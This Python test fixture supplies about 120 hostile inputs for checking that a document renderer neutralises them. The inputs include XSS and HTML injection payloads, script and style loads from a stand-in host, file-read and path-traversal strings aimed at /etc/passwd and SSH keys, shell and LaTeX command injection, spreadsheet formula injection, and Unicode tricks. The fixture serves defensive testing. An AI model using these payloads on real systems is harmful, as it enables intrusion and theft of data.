"""Texts that try to be more than words, each with what it tries, and a canary that tells of it.

Whoever is fooled sets a flag on the page, asks a host that is not there, shows what stands in a
file of this machine, or adds a slide. `tests/hostile/files.py` writes them into every field.
"""

# ruff: noqa: E501
from __future__ import annotations

from pathlib import Path
from typing import Final, NamedTuple

FLAG: Final = "__smk_hostile"
RUN: Final = f"window.{FLAG}=1"
HOST: Final = "canary.invalid"
URL: Final = f"http://{HOST}/x"
SECRET: Final = "planted-secret-7d1f"
"""What stands in the file that nobody may read."""


class Hostile(NamedTuple):
    """A text, and what it tries."""

    tries: str
    text: str


def texts(secret: Path) -> tuple[Hostile, ...]:
    """Give all texts; those that would read a file name this one."""
    return tuple(
        Hostile(tries, text.replace("SECRETFILE", str(secret))) for tries, text in _TEXTS.items()
    )


# In the names of the tries, the order is: HTML, links, Markdown, pandoc, formulas, typst, letters.
_TEXTS: Final[dict[str, str]] = {
    "a script": f"<script>{RUN}</script>",
    "a script, upper case": f"<SCRIPT>{RUN}</SCRIPT>",
    "a script after an attribute": f'"><script>{RUN}</script>',
    "a script after a single quote": f"'><script>{RUN}</script>",
    "a script in a script": f"</script><script>{RUN}</script>",
    "a script after every raw element": (
        f"</style></textarea></title></noscript></xmp></template><script>{RUN}</script>"
    ),
    "a script from elsewhere": f"<script src={URL}></script>",
    "a module from elsewhere": f"<script type=module>import '{URL}'</script>",
    "a script split by a comment": f"<scr<!-- -->ipt>{RUN}</script>",
    "a script in a script tag": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "a script after a comment": f"--><script>{RUN}</script>",
    "a script after a bang comment": f"--!><script>{RUN}</script><!--",
    "a script after CDATA": f"]]><script>{RUN}</script>",
    "an event of an image": f"<img src=x onerror={RUN}>",
    "an event with slashes": f"<img/src/onerror={RUN}>",
    "an event in backticks": f"<img src=`x` onerror=`{RUN}`>",
    "an event of an SVG": f"<svg onload={RUN}>",
    "an event within an SVG": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "a script within an SVG": f"<svg><script>{RUN}</script></svg>",
    "a script in a text of an SVG": f"</text><script>{RUN}</script><text>",
    "a link within an SVG": f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    "an image within an SVG": f'</text><image href="{URL}"/><use href="{URL}#x"/><text>',
    "a foreign object": f"<foreignObject><body onload={RUN}></foreignObject>",
    "an event of details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "an event that gets the focus": f"<input autofocus onfocus={RUN}>",
    "an event in an attribute": f'" onmouseover="{RUN}" onfocus="{RUN}" autofocus="',
    "an event in a single attribute": f"' onmouseover='{RUN}' onfocus='{RUN}' x='",
    "an event in a bare attribute": f"x onmouseover={RUN} onclick={RUN} onfocus={RUN}",
    "an event of a video": f"<video src=x onerror={RUN}><source onerror={RUN}></video>",
    "an animation": f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>",
    "a frame": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "a frame of words": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "a frame of words, escaped": f"&lt;script&gt;parent.{RUN}&lt;/script&gt;",
    "a frame of a file": '<iframe src="file://SECRETFILE"></iframe><embed src="SECRETFILE">',
    "an object": f'<object data="data:text/html,<script>parent.{RUN}</script>"></object>',
    "another base": f'<base href="http://{HOST}/">',
    "a page that moves on": f'<meta http-equiv="refresh" content="0;url={URL}">',
    "a form": f"<form action={URL}><button>Save</button></form>",
    "a button of another form": f'<button form=x formaction="javascript:{RUN}">Go on</button>',
    "an image from elsewhere": f'<img src="{URL}" srcset="{URL} 2x"><picture><source srcset={URL}>',
    "an image without a protocol": f"<img src=//{HOST}/x>",
    "a style from elsewhere": f"<link rel=stylesheet href={URL}><link rel=prefetch href={URL}>",
    "an imported style": f"<style>@import '{URL}';</style>",
    "a style in an attribute": f'<p style="background:url({URL})">x</p>',
    "a style after a semicolon": f"1px;background:url({URL})",
    "a style after a style": f"</style><style>*{{background:url({URL})}}",
    "a font from elsewhere": f"<style>@font-face{{font-family:x;src:url({URL})}}*{{font-family:x}}</style>",
    "clobbered names": "<a id=jupyterapp name=jupyterapp><img name=cookie><form id=document>",
    "half an element": f'<img src="{URL}" alt="',
    "half an attribute": f'<p title="<img src={URL}>',
    "a noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "MathML": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></math>",
    "a template": f"<template shadowrootmode=open><script>{RUN}</script></template>",
    "a link to a script": f"[open](javascript:{RUN})",
    "a link to a script, capitals": f"[open](JaVaScRiPt:{RUN})",
    "a link to a script, entity": f"[open](java&#115;cript:{RUN}) [open](&#x6A;avascript:{RUN})",
    "a link to a script, tab": f"[open](<java\tscript:{RUN}>) [open](java&Tab;script:{RUN})",
    "a link to a script, space": f"[open]( \x01javascript:{RUN}) <a href=' javascript:{RUN}'>x</a>",
    "a link to VBScript and data": f"[a](vbscript:x) [b](data:text/html,<script>{RUN}</script>)",
    "a link to a file": "[open](file://SECRETFILE) [open](SECRETFILE) [open](../../../etc/passwd)",
    "an address in angle brackets": f"<javascript:{RUN}> <{URL}> <x@{HOST}>",
    "a link by reference": f"[open][x] ![pic][x]\n\n[x]: javascript:{RUN}",
    "a reference in a quote": f"> - [y]: {URL}\n\n![pic][y]\n\n[y]",
    "a link with a title": f'[open](https://{HOST} "\\" onclick={RUN}") [o](https://a"onclick={RUN})',
    "a picture": f"![x]({URL}) ![x](<{URL}>) ![](//{HOST}/x)",
    "a picture of a file": "![x](SECRETFILE) ![x](file://SECRETFILE)",
    "a picture within a link": f"[![x]({URL})](javascript:{RUN})",
    "attributes of pandoc": f'# x {{onclick="{RUN}"}}\n\n[x]{{onclick="{RUN}" style="background:url({URL})"}}',
    "a source of pandoc": "[x]{src=SECRETFILE} ![x]{src=SECRETFILE}\n\n::: {data-src=SECRETFILE}\nx\n:::",
    "a background of a slide": f'## x {{background-image="{URL}" background-iframe="{URL}"}}',
    "a raw block of pandoc": f"```{{=html}}\n<script>{RUN}</script>\n```\n\n`<script>{RUN}</script>`{{=html}}",
    "a raw block in more backticks": f"`````\n``````{{=html}}\n<script>{RUN}</script>\n``````\n`````",
    "an included file": '{{#include SECRETFILE}} <!--#include file="SECRETFILE"--> !include SECRETFILE',
    "a mark of the kit's": "<!--put-in-0--><!--body-->{{signposting}} {{person}} $body$",
    "a picture of the kit's": "![](case/everyday)\n\n![](amina/crisis)",
    "more slides": "# One\n\n## Two {minutes=1}\n\n---\n\n***\n\n- - -\n\nThree\n---\n\nFour\n===",
    "more slides in HTML": "</aside></section><section class='slide'><h2>x</h2></section>",
    "a block that ends": ":::\n\n::: notes\nx\n:::\n\n:::::: x\n",
    "notes": f"x[^1] and ^[## a\n\n## b {{minutes=1}}]\n\n[^1]: ## c\n\n    <script>{RUN}</script>",
    "a head": "---\ntitle: x\nheader-includes: <script>window.__smk_hostile=1</script>\n---\n\nx",
    "a citation": "@x [@leach2016, p. 3; @y] (Leach 2016)",
    "tables": f"| a | <script>{RUN}</script> |\n|:-|-:|\n| ![x]({URL}) | b | c |",
    "a definition": f"Term\n:   [x]({URL}){{onclick={RUN}}}\n\n    ~ x",
    "deep lists": "- " * 60 + "x",
    "an ordered list": "99999999999. x\n\n999999999. y\n1) z",
    "a formula with a link": f"$\\href{{javascript:{RUN}}}{{open}}$ $$\\href{{{URL}}}{{x}}$$",
    "a formula with a class": "$\\class{jp-Dialog}{x}\\cssId{jupyter-config-data}{x}\\style{background:url(//x)}{x}$",
    "a formula that requires": "\\(\\require{html}\\unicode{x3c}\\) \\begin{equation}\\input{SECRETFILE}\\end{equation}",
    "a macro that never ends": "$\\def\\x{\\x\\x}\\x$ \\[\\newcommand{\\y}{\\y}\\y\\]",
    "LaTeX": "\\input{SECRETFILE} \\write18{touch /tmp/x} \\immediate\\openin",
    "a template's words": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% import os %} {{constructor.constructor('window.__smk_hostile=1')()}}",
    "a JavaScript template": f"`${{{RUN}}}` ${{{RUN}}} '+({RUN})+'",
    "the end of a string": f"';{RUN};// \";{RUN};// \\';{RUN};//",
    "JSON": '","x":{"__proto__":{"isAdmin":1}},"y":"\\u003cscript\\u003e',
    "a property of every object": "__proto__",
    "typst that evaluates": '#eval("panic()") #panic("x") #{ let x = 1 }',
    "typst that reads": '#read("SECRETFILE") #image("SECRETFILE") #include "SECRETFILE"',
    "typst that reads from its root": '#read("/look.typ") #import "look.typ": * #json("SECRETFILE")',
    "typst's marks": "] [ } { = x\n#set page(fill: red)\n// y /* z */ @ref <label> $ a_b $ \\u{41}",
    "a cell that runs": "=cmd|'/C calc'!A0",
    "a cell that asks": f'=WEBSERVICE("{URL}") +HYPERLINK("{URL}") @SUM(1) -1+1',
    "a cell that ends": 'x","=1+1","\n"y',
    "a path upward": "../../../../etc/passwd",
    "a path with a drive": "C:\\..\\..\\nul /dev/stdin ~/.ssh/id_rsa",
    "a format": "{0.__class__.__mro__} {self} {person!r:>9999999} %s %n %(x)s $person",
    "a shell": "$(touch /tmp/smk) `touch /tmp/smk` ; touch /tmp/smk | cat && x",
    "an option": "--lua-filter=x --extract-media=/tmp -o /tmp/x",
    "letters of a terminal": "\x1b[31mred\x1b]8;;http://canary.invalid\x07x\x1b]8;;\x07\x1b[2J\x9b31m",
    "letters that turn": "\u202egpj.exe\u202c \u2066x \u2067y \u200fz",
    "letters that nobody sees": "a\u200b\u200c\u200d\u2060\ufeffb\u00ad\u3164\u2800\U000e0041",
    "halves of letters": "x\ud800y\udc00z",
    "a NUL": f"x\x00<scr\x00ipt>{RUN}</script>",
    "letters of control": "a\x01\x02\x08\x0b\x0c\x1f\x7f\x85b",
    "ends of lines": f"x\u2028y\u2029z\r<script>{RUN}</script>\r\nw\x85",
    "no letters": "\ufffe\uffff\ufdd0\U0001fffe",
    "many marks on a letter": "e" + "\u0301\u0489\u20dd" * 60,
    "another script's tag": f"＜script＞{RUN}＜/script＞ ‹script› %3Cscript%3E \\x3cscript\\x3e \\u003cscript\\u003e",
    "UTF-7": "+ADw-script+AD4-window.__smk_hostile=1+ADw-/script+AD4-",
    "a very long word": "W" * 3000,
    "many brackets": "[" * 3000 + "](" * 500,
    "many marks": "*_`~" * 900,
    "many elements": "<b>" * 1000,
    "many quotes": ">" * 500 + " x",
    "an entity": "&lt;script&gt; &#60;img src=x&#62; &amp;lt; &nbsp; &NewLine; &",
    "nothing but marks": "# \n\n- \n\n| |\n|-|\n\n** **",
}
